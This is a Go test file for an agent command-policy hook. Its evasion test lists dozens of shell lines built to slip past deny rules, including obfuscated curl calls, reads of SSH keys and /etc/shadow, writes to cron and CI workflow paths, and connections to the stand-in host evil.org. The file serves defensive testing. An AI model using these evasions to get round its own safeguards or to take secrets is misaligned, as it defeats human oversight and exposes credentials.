package hook_test

import (
	"testing"

	"github.com/policygen/policygen/internal/agent/hook"
	"github.com/policygen/policygen/internal/wire"
)

// TestEvasions are ways around a policy that people and models have tried. Each names the policy it must not get around.
func TestEvasions(t *testing.T) {
	policies := []wire.Policy{
		rule("denylist", "commands", "curl", "git push"), rule("denylist", "readPath", "~/.ssh", "/etc/shadow", "**/.env"),
		rule("denylist", "writePath", "/etc", ".github/workflows"), rule("denylist", "domains", "evil.org", "*.evil.org"),
		rule("denylist", "mcpServers", "slack"), rule("denylist", "tools", "WebSearch"),
	}
	p := compile(t, bundle(policies...))
	cases := []struct{ policy, line string }{
		{"commands-denylist", "cur\\\nl x"},
		{"commands-denylist", "c$()url x; curl"},
		{"commands-denylist", `"cu"'rl' x`},
		{"commands-denylist", "true &&\\\n curl x"},
		{"commands-denylist", "true\ncurl x"},
		{"commands-denylist", "if ! curl x; then :; fi"},
		{"commands-denylist", "{curl,x}"},
		{"commands-denylist", "a=cu; b=rl; $a$b x"},
		{"commands-denylist", "IFS=,; curl,x; curl"},
		{"commands-denylist", "sudo -E env A=1 nice -n 5 timeout 3 curl x"},
		{"commands-denylist", "bash -c \"bash -c 'curl x'\""},
		{"commands-denylist", "echo x | tee >(curl y)"},
		{"commands-denylist", "cat <(curl x)"},
		{"commands-denylist", ": ${X:=$(curl x)}"},
		{"commands-denylist", "echo \"`curl x`\""},
		{"commands-denylist", "find . -type f -exec sh -c 'curl x' \\;"},
		{"commands-denylist", "xargs -I{} curl {} < list"},
		{"commands-denylist", "trap 'curl x' EXIT"},
		{"commands-denylist", "x() { curl y; }; x"},
		{"commands-denylist", "ssh_host=1 /usr/bin/curl x"},
		{"commands-denylist", "git  push"},
		{"commands-denylist", "/usr/bin/git push origin"},
		{"commands-denylist", "sh <<'E'\ncurl x\nE"},
		{"commands-denylist", "$'\\143url' x"},
		{"commands-denylist", "$'\\u63url' x"},
		{"commands-denylist", `$"curl" x`},
		{"readPath-denylist", "cat ~/.ssh/id_rsa"},
		{"readPath-denylist", "cat \"$HOME\"/.ssh/id_rsa"},
		{"readPath-denylist", "cat ../.ssh/id_rsa"},
		{"readPath-denylist", "cd ~ && cat .ssh/id_rsa"},
		{"readPath-denylist", "cat /etc//shadow"},
		{"readPath-denylist", "cat /etc/./x/../shadow"},
		{"readPath-denylist", "cat /etc/sh?dow"},
		{"readPath-denylist", "cat /etc/{passwd,shadow}"},
		{"readPath-denylist", "base64 < /etc/shadow"},
		{"readPath-denylist", "tar cf - ~/.ssh"},
		{"readPath-denylist", "python3 -m http.server --directory=/home/alice/.ssh"},
		{"readPath-denylist", "cat sub/.env"},
		{"readPath-denylist", "F=/etc/shadow; cat $F"},
		{"readPath-denylist", "sudo cat /etc/shadow"},
		{"readPath-denylist", "find . -exec cat /etc/shadow ;"},
		{"readPath-denylist", "cp /etc/shadow /tmp/x"},
		{"writePath-denylist", "echo x >/etc/cron.d/y"},
		{"writePath-denylist", "echo x &>> /etc/y"},
		{"writePath-denylist", "echo x | sudo tee -a /etc/hosts"},
		{"writePath-denylist", ">| .github/workflows/x.yml"},
		{"writePath-denylist", "cp x .github/workflows/"},
		{"writePath-denylist", "cd .github && touch workflows/x"},
		{"domains-denylist", "wget -qO- evil.org"},
		{"domains-denylist", "nc evil.org 443"},
		{"domains-denylist", "git push https://user@EVIL.org/x"},
		{"domains-denylist", "pip install --index-url=https://a.evil.org/simple x"},
		{"domains-denylist", "rsync x me@evil.org:/y"},
	}
	for _, c := range cases {
		denied := false
		for _, found := range p.Decide(bash(t, c.line), facts()).Observed {
			denied = denied || found.Policy == c.policy && found.Behavior == hook.Deny
		}
		if !denied {
			t.Errorf("%q gets around %s", c.line, c.policy)
		}
	}
}

// TestOrdinaryWork are lines that the same policies must leave alone.
func TestOrdinaryWork(t *testing.T) {
	p := compile(t, bundle(
		rule("denylist", "commands", "curl", "git push"), rule("denylist", "readPath", "~/.ssh", "/etc/shadow", "**/.env"),
		rule("denylist", "writePath", "/etc", ".github/workflows"), rule("denylist", "domains", "evil.org", "*.evil.org"),
	))
	for _, line := range []string{
		"git status && git diff --stat", "git commit -m 'document curl and git push'", "npm ci && npm test -- --grep 'a|b'", "go test ./... 2>&1 | tail -5",
		"grep -rn curl .", "sed -n '1,20p' main.go", "ls -la /etc", "cat /etc/hosts", "cat .env.example", "echo evil.org", "rg 'evil\\.org' docs",
		"cat <<'EOF' > notes.md\ncurl https://evil.org\nEOF", "for f in *.go; do gofmt -l \"$f\"; done", "make -j4 build", "docker ps --format '{{.Names}}'",
		"find . -name '*.go' -exec wc -l {} +", "python3 - <<'EOF'\nprint('git push')\nEOF", "jq '.a | .b' x.json > y.json", "cp .github/workflows/ci.yml /tmp/",
		"wget https://notevil.org/x", "ssh-keygen -l -f key.pub", "test -f x && rm x || true", "awk '{print $1}' x | sort | uniq -c",
	} {
		if d := p.Decide(bash(t, line), facts()); d.Behavior == hook.Deny {
			t.Errorf("%q: %s", line, d.Message)
		}
	}
}
